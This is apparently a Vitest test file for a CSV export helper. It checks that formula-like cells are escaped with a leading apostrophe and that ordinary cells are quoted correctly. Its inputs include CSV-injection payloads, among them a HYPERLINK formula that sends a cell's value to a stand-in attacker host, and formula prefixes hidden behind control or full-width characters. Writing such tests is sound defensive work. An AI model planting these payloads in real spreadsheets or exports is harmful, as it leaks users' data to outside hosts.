import { expect, test } from 'vitest';
import hostile from '../../tests/vectors/hostile.json' with { type: 'json' };
import { csvCell, toCsv } from './csv.ts';

const formulas = hostile.items.filter(({ id }) => id.startsWith('csv-')).map(({ input }) => String(input));

test.each([
  ...formulas,
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
])('%j is no formula any more', (text) => {
  const cell = csvCell(text);
  const shown = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  expect(shown).toBe(`'${text}`);
});

test('ordinary cells stay as they are, and what would end one is quoted', () => {
  expect(toCsv([['a', '1'], ['b "c", d', 'x\ny'], ['']])).toBe('a,1\r\n"b ""c"", d","x\ny"\r\n\r\n');
});
